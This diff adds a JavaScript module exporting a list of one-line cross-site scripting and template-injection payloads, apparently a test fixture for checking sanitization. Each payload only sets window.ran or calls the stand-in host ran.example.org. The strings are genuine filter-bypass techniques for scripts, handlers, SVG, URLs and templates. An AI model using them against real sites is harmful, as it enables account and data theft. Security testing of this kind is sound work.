@@ -1,0 +1,73 @@
+// Sixty texts that would run, load or change something if a page took them for markup, for a template or for code: each sets
+// window.ran, asks ran.example.org for something, or leaves an element with data-ran behind. All are one line, and fit a name.
+
+/** @type {readonly string[]} */
+export const PAYLOADS = [
+  // scripts
+  '<script data-ran>window.ran=1</script>',
+  '<SCRIPT data-ran SRC="https://ran.example.org/1.js"></SCRIPT>',
+  '<script data-ran type="module">import "https://ran.example.org/2.js"</script>',
+  '"><script data-ran>window.ran=1</script>',
+  '\'><script data-ran>window.ran=1</script>',
+  '</title><script data-ran>window.ran=1</script>',
+  '</textarea><script data-ran>window.ran=1</script>',
+  '</script><script data-ran>window.ran=1</script>',
+  '<scr<script>ipt data-ran>window.ran=1</scr</script>ipt>',
+  '<noscript><p title="</noscript><img data-ran src=x onerror=window.ran=1>">',
+  // handlers
+  '<img data-ran src=x onerror=window.ran=1>',
+  '<img data-ran src="https://ran.example.org/3.png">',
+  '<IMG DATA-RAN SRC=x OnErRoR="window.ran=1">',
+  '<img/data-ran/src=x/onerror=window.ran=1>',
+  '<body data-ran onload=window.ran=1>',
+  '<input data-ran autofocus onfocus=window.ran=1>',
+  '<select data-ran autofocus onfocus=window.ran=1></select>',
+  '<details data-ran open ontoggle=window.ran=1>Grace</details>',
+  '<video data-ran><source onerror=window.ran=1></video>',
+  '<audio data-ran src=x onerror=window.ran=1></audio>',
+  '<marquee data-ran onstart=window.ran=1>Grace</marquee>',
+  '<p data-ran onmouseover=window.ran=1 onclick=window.ran=1>Grace</p>',
+  '" onfocus="window.ran=1" autofocus data-ran="',
+  '\' onmouseover=\'window.ran=1\' data-ran=\'',
+  'x onclick=window.ran=1 data-ran=x',
+  // svg, mathml
+  '<svg data-ran onload=window.ran=1>',
+  '<svg data-ran><script>window.ran=1</script></svg>',
+  '<svg data-ran><animate onbegin=window.ran=1 attributeName=x dur=1s></svg>',
+  '<svg data-ran><foreignObject><iframe onload=window.ran=1></iframe></foreignObject></svg>',
+  '<svg data-ran><use href="data:image/svg+xml,<svg id=x onload=window.ran=1>#x"/></svg>',
+  '<math data-ran><maction actiontype="statusline#https://ran.example.org" href="javascript:window.ran=1">x</maction></math>',
+  // addresses
+  'javascript:window.ran=1',
+  'JaVaScRiPt:window.ran=1//',
+  'java\u200bscript:window.ran=1',
+  '<a data-ran href="javascript:window.ran=1">Grace</a>',
+  'data:text/html,<script>window.ran=1</script>',
+  // other documents, other places
+  '<iframe data-ran srcdoc="<script>parent.ran=1</script>"></iframe>',
+  '<iframe data-ran src="javascript:parent.ran=1"></iframe>',
+  '<object data-ran data="https://ran.example.org/4"></object>',
+  '<embed data-ran src="https://ran.example.org/5">',
+  '<base data-ran href="https://ran.example.org/">',
+  '<meta data-ran http-equiv="refresh" content="0;url=https://ran.example.org/6">',
+  '<link data-ran rel="stylesheet" href="https://ran.example.org/7.css">',
+  '<style data-ran>*{background:url(https://ran.example.org/8)}</style>',
+  '<form data-ran action="https://ran.example.org/9"><button autofocus>Grace</button></form>',
+  '<p data-ran style="background:url(https://ran.example.org/10);position:fixed;inset:0">Grace</p>',
+  // templates
+  '${window.ran=1}',
+  '`${window.ran=1}`',
+  '`;window.ran=1;`',
+  '{{constructor.constructor("window.ran=1")()}}',
+  '<%= window.ran=1 %>#{window.ran=1}',
+  '<!--lit$0$--><img data-ran src=x onerror=window.ran=1><!--?lit$0$-->',
+  '?lit$123456789$',
+  '<?lit$123456789$><!--?-->--><script data-ran>window.ran=1</script>',
+  '{"_$litType$":1,"strings":["<img src=x onerror=window.ran=1>"],"values":[]}',
+  // written in another way
+  '&lt;script&gt;window.ran=1&lt;/script&gt;&amp;&#60;img src=x onerror=window.ran=1&#62;',
+  '\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e',
+  '＜script＞window.ran=1＜/script＞',
+  '\u202e>tpircs/<1=nar.wodniw>tpircs<\u202c',
+  "'); window.ran=1; //' OR 1=1; --",
+];
